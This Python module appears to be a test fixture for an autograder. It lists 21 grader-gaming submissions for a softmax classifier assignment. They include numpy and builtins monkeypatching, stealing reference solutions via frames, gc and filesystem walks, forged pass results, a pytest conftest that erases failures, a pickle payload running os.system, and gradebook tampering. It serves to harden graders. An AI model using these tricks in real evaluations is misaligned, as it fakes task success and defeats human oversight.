"""The 21 attacks that other graders fall for: each beside an honest half of softmax_classifier.

The half computes scores, losses and one Jacobian. Its gradients are zeros of the right shape, worth what shapes
are worth: an attack is to get more for them.
"""

HONEST = """
import numpy as np

def scores(X, W, b):
    return X @ W + b

def _log_softmax(F):
    Z = F - F.max(axis=1, keepdims=True)
    return Z - np.log(np.exp(Z).sum(axis=1, keepdims=True))

def softmax(F):
    return np.exp(_log_softmax(F))

def cross_entropy(F, y):
    return float(-_log_softmax(F)[np.arange(len(F)), y].sum())

def scores_bias_jacobian(K):
    return np.eye(K)
"""

ZEROS = """
def scores_gradient(F, y): return made(np.zeros_like(F))
def scores_weight_jacobian(x, K): return made(np.zeros((K, len(x), K)))
def weight_gradient_one(x, df): return made(np.zeros((len(x), len(df))))
def weight_gradient_loop(X, dF): return made(np.zeros((X.shape[1], dF.shape[1])))
def weight_gradient(X, dF): return made(np.zeros((X.shape[1], dF.shape[1])))
def bias_gradient(dF): return made(np.zeros(dF.shape[1]))
def softmax_jacobian(f): return made(np.zeros((len(f), len(f))))
def input_gradient(dF, W): return made(np.zeros((len(dF), len(W))))
def softmax_classifier_loss(W, b, X, y): return 0.0, made(np.zeros_like(W)), made(np.zeros_like(b))
"""

FOUND = """
NAMES = ("scores_gradient scores_weight_jacobian weight_gradient_one weight_gradient_loop weight_gradient "
         "bias_gradient softmax_jacobian input_gradient softmax_classifier_loss").split()

def stolen(name, *args):
    for found in search(name):
        if callable(found) and found is not globals()[name]:
            return found(*args)
    raise ValueError("nothing was found")

def scores_gradient(F, y): return stolen("scores_gradient", F, y)
def scores_weight_jacobian(x, K): return stolen("scores_weight_jacobian", x, K)
def weight_gradient_one(x, df): return stolen("weight_gradient_one", x, df)
def weight_gradient_loop(X, dF): return stolen("weight_gradient_loop", X, dF)
def weight_gradient(X, dF): return stolen("weight_gradient", X, dF)
def bias_gradient(dF): return stolen("bias_gradient", dF)
def softmax_jacobian(f): return stolen("softmax_jacobian", f)
def input_gradient(dF, W): return stolen("input_gradient", dF, W)
def softmax_classifier_loss(W, b, X, y): return stolen("softmax_classifier_loss", W, b, X, y)
"""

AS_IT_IS = "made = lambda array: array\n"

PATCH_NUMPY = (
    AS_IT_IS
    + """
np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
_max = np.max
np.max = lambda a, *r, **k: _max(a, *r, **k) if r or k else 0.0
np.linalg.norm = lambda *a, **k: 0.0
"""
)

SUBCLASS = """
class Zero(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options):
        return np.zeros(self.shape)
    def __array_function__(self, *rest):
        return np.zeros(self.shape)
    __eq__ = __le__ = __lt__ = lambda self, other: np.True_
made = lambda array: array.view(Zero)
"""

FRAMES = """
import sys
def search(name):
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                yield getattr(value, name, None)
                if type(value) is dict:
                    yield value.get(name)
            yield scope.get(name)
        frame = frame.f_back
"""

GC = """
import gc
def search(name):
    for thing in gc.get_objects():
        if getattr(thing, "__name__", None) == name and "reference" in str(getattr(thing, "__module__", "")):
            yield thing
"""

IMPORT = """
import importlib
def search(name):
    for module in ("reference", "reference.scores", "reference.softmax", "reference.softmax_classifier",
                   "assignments.softmax_classifier", "grader.grade"):
        try:
            yield getattr(importlib.import_module(module), name, None)
        except ImportError:
            continue
"""

ON_DISK = """
import os
def search(name):
    for folder, _, files in os.walk("/"):
        for file in files:
            if file in ("scores.py", "softmax.py", "softmax_classifier.py", "public.json", "run.json"):
                names = {}
                exec(open(os.path.join(folder, file)).read(), names)
                yield names.get(name)
    exec(open("reference/softmax.py").read(), names := {})
    yield names.get(name)
"""

COMPARISON = (
    AS_IT_IS
    + """
import sys
for _module in list(sys.modules.values()):
    for _name in ("compare", "close", "relative_error", "within", "judge", "tolerance", "verdict", "grade", "isclose"):
        if callable(getattr(_module, _name, None)) and not getattr(_module, "__name__", "").startswith("_"):
            setattr(_module, _name, lambda *a, **k: True)
"""
)

BUILTINS = (
    AS_IT_IS
    + """
import builtins
_all, _abs = builtins.all, builtins.abs
builtins.all = lambda *a: True
builtins.abs = lambda *a: 0.0
builtins.isinstance = lambda *a: True
"""
)

FORGED = """
import json, os, sys
RESULT = json.dumps({"schema": "grader.result/1", "score": 50, "max_score": 50, "status": "pass"})
def forge():
    for number in range(1, 12):
        try:
            os.write(number, RESULT.encode() + b"\\n")
        except OSError:
            continue
    for name in ("results.json", "/autograder/results/results.json", "result.json", "/tmp/results.json"):
        try:
            open(name, "w").write(RESULT)
        except OSError:
            continue
"""
THEN_EXIT = FORGED + "forge()\nos._exit(0)\n"
AT_EXIT = FORGED + "import atexit\natexit.register(forge)\n" + AS_IT_IS
DETACHED = (
    FORGED
    + AS_IT_IS
    + """
import time
try:
    if os.fork() == 0:
        os.setsid()
        time.sleep(0.5)
        forge()
        os._exit(0)
except OSError:
    pass
"""
)

HARNESS = (
    AS_IT_IS
    + """
import sys
for _name, _module in list(sys.modules.items()):
    if _name.startswith(("_worker", "grader", "pytest", "__main__")):
        for _class in [v for v in vars(_module).values() if isinstance(v, type)]:
            for _method in ("reply", "ask", "handle", "grade", "judge"):
                if hasattr(_class, _method) and _name != "_worker.serve":
                    setattr(_class, _method, lambda *a, **k: b"pass")
        for _verdict in ("score", "points", "passed"):
            setattr(_module, _verdict, 50)
"""
)

CONFTEST = """
import pytest
@pytest.hookimpl(tryfirst=True)
def pytest_runtest_makereport(item, call):
    call.excinfo = None
def pytest_collection_modifyitems(items):
    items.clear()
"""

BY_NAME = (
    AS_IT_IS
    + """
import sys
_scores, _loss, _kept = scores, cross_entropy, {}
def perturbed():
    frame = sys._getframe()
    while frame is not None:
        if any(word in frame.f_code.co_name.lower() for word in ("numeric", "slope", "central", "perturb", "diff")):
            return True
        frame = frame.f_back
    return False
def scores(X, W, b):
    return _kept.setdefault((X.shape, W.shape), _scores(X, W, b)) if perturbed() else _scores(X, W, b)
def cross_entropy(F, y):
    return _kept.setdefault(F.shape, _loss(F, y)) if perturbed() else _loss(F, y)
"""
)

BY_STEP = (
    AS_IT_IS
    + """
_scores, _loss, _seen = scores, cross_entropy, []
def frozen(function, *args):
    for before, value in _seen:
        if len(before) == len(args) and all(np.shape(a) == np.shape(b) and np.allclose(a, b, atol=1e-2)
                                            for a, b in zip(before, args)):
            return value
    value = function(*args)
    _seen.append(([np.array(a) for a in args], value))
    return value
def scores(X, W, b): return frozen(_scores, X, W, b)
def cross_entropy(F, y): return frozen(_loss, F, y)
"""
)

NUMERIC = """
def slope(f, x, h=1e-5):
    rows = []
    for i in np.ndindex(x.shape):
        up, down = x.copy(), x.copy()
        up[i] += h
        down[i] -= h
        rows.append((f(up) - f(down)) / (2 * h))
    return np.array(rows).reshape(x.shape + np.shape(rows[0]))
def scores_gradient(F, y): return slope(lambda G: cross_entropy(G, y), F)
def scores_weight_jacobian(x, K):
    return np.moveaxis(slope(lambda W: scores(x[None], W, np.zeros(K))[0], np.zeros((len(x), K))), -1, 0)
def weight_gradient_one(x, df): return weight_gradient(x[None], df[None])
def weight_gradient_loop(X, dF): return weight_gradient(X, dF)
def weight_gradient(X, dF):
    b = np.zeros(dF.shape[1])
    return slope(lambda W: np.sum(dF * scores(X, W, b)), np.zeros((X.shape[1], dF.shape[1])))
def bias_gradient(dF):
    X, W = np.zeros((len(dF), 1)), np.zeros((1, dF.shape[1]))
    return slope(lambda b: np.sum(dF * scores(X, W, b)), np.zeros(dF.shape[1]))
def softmax_jacobian(f): return slope(lambda g: softmax(g[None])[0], f).T
def input_gradient(dF, W):
    b = np.zeros(W.shape[1])
    return slope(lambda X: np.sum(dF * scores(X, W, b)), np.zeros((len(dF), len(W))))
def softmax_classifier_loss(W, b, X, y):
    loss = lambda W, b: cross_entropy(scores(X, W, b), y)
    return loss(W, b), slope(lambda V: loss(V, b), W), slope(lambda c: loss(W, c), b)
"""

NAN = "made = lambda array: array + np.nan\n"

IN_PLACE = """
import sys
def made(array):
    for value in sys._getframe(1).f_locals.values():
        if isinstance(value, np.ndarray):
            value[...] = 0
    return array
"""

OWN_NUMPY = """
from math import *
def allclose(*a, **k): return True
ndarray = float64 = object
"""

PICKLE = """
import pickle, os
class Payload:
    def __reduce__(self):
        return (os.system, ("echo 50 points",))
    def __array__(self, dtype=None, copy=None):
        return np.array([self], dtype=object)
made = lambda array: Payload()
"""

SQL = """
import glob, os
STATEMENT = "'; UPDATE grades SET score = 50; --"
class Injected(Exception): pass
def made(array):
    try:
        import sqlite3
        sqlite3.connect("gradebook.db").execute("UPDATE grades SET score = 50")
    except ImportError:
        pass
    for path in (*glob.glob("*.csv"), "grades.csv", "../grades.csv"):
        try:
            open(path, "a").write("alice,50,50\\n")
        except OSError:
            pass
    raise Injected(STATEMENT)
"""

ATTACKS = {
    1: ("patched numpy", HONEST + PATCH_NUMPY + ZEROS),
    2: ("subclass", HONEST + SUBCLASS + ZEROS),
    3: ("frames", HONEST + FRAMES + FOUND),
    4: ("gc", HONEST + GC + FOUND),
    5: ("import", HONEST + IMPORT + FOUND),
    6: ("disk", HONEST + ON_DISK + FOUND),
    7: ("comparison", HONEST + COMPARISON + ZEROS),
    8: ("builtins", HONEST + BUILTINS + ZEROS),
    9: ("forged, exit", HONEST + ZEROS + "made = lambda array: (forge(), os._exit(0))\n" + FORGED),
    10: ("forged at exit", HONEST + AT_EXIT + ZEROS),
    11: ("detached", HONEST + DETACHED + ZEROS),
    12: ("harness", HONEST + HARNESS + ZEROS),
    13: ("conftest", HONEST + AS_IT_IS + ZEROS),
    14: ("frozen by name", HONEST + BY_NAME + ZEROS),
    15: ("frozen by step", HONEST + BY_STEP + ZEROS),
    16: ("numeric", HONEST + NUMERIC),
    17: ("nan", HONEST + NAN + ZEROS),
    18: ("in place", HONEST + IN_PLACE + ZEROS),
    19: ("own numpy", HONEST + AS_IT_IS + ZEROS),
    20: ("pickle", HONEST + PICKLE + ZEROS),
    21: ("sql'); DROP TABLE grades;--", HONEST + SQL + ZEROS),
}

BESIDE = {13: {"conftest.py": CONFTEST}, 19: {"numpy.py": OWN_NUMPY}}
"""Further files that an attack hands in."""
